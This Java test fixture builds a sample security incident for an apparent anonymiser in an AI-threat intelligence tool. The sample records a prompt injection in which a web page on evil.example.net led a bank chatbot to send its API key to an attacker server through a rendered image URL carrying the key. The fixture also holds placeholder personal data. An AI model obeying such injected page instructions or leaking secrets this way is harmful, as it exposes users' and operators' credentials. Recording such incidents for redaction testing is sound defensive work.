package org.atlasops.intel.incident;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import org.atlasops.kb.AtlasId;
import org.atlasops.kb.IncidentDate;
import org.atlasops.kb.KnowledgeBase;
import org.atlasops.kb.ProcedureStep;
import org.atlasops.kb.Reference;
import org.atlasops.kb.read.ReleaseCatalog;

/** An incident as a SOC would record it, with everything the anonymiser must catch. */
public final class Samples {
    public static final KnowledgeBase KB = ReleaseCatalog.bundledOnly().loadDefault();

    private Samples() {}

    public static Study study() {
        return new Study(
                "Prompt injection against Acme Bank's HelpBot",
                "Jane Doe (jane.doe@acme-bank.example) reported that HelpBot at https://helpbot.acme-bank.example/chat "
                        + "followed instructions hidden in a web page on evil.example.net. The attacker's server "
                        + "203.0.113.7 received the API key sk-proj-AbCdEf0123456789xyzXYZ through a rendered image. "
                        + "Acme Bank rotated the key.",
                new IncidentDate(LocalDate.of(2026, 3, 14), IncidentDate.Granularity.DATE),
                StudyType.INCIDENT,
                "Acme Bank HelpBot, an LLM chatbot",
                "FIN-LLM-7",
                Optional.of("Jane Doe"),
                List.of(new Reference("Internal ticket", "https://jira.acme-bank.example/browse/SEC-42")),
                List.of(
                        new ProcedureStep(
                                AtlasId.parse("AML.TA0005"),
                                AtlasId.parse("AML.T0051.001"),
                                "A page on evil.example.net told HelpBot to send its API key to 203.0.113.7."),
                        new ProcedureStep(
                                AtlasId.parse("AML.TA0010"),
                                AtlasId.parse("AML.T0077"),
                                "HelpBot rendered an image from https://evil.example.net/x.png?k=sk-proj-AbCdEf0123456789xyzXYZ; "
                                        + "Jane Doe saw it in the logs of helpbot.acme-bank.example.")));
    }

    public static Incident incident() {
        return new Incident(
                study(),
                new Timeline(
                        Optional.of(Instant.parse("2026-03-14T08:00:00Z")),
                        Optional.of(Instant.parse("2026-03-14T09:30:00Z")),
                        Optional.of(Instant.parse("2026-03-14T09:45:00Z")),
                        Optional.of(Instant.parse("2026-03-14T11:00:00Z")),
                        Optional.of(Instant.parse("2026-03-15T16:00:00Z"))),
                List.of("helpbot-prod-eu1", "vault-kv-ai"),
                List.of("ALERT-7781", "ALERT-7790"),
                Tlp.AMBER,
                "Escalated to CISO; the vendor contact is Bob Smith.");
    }
}
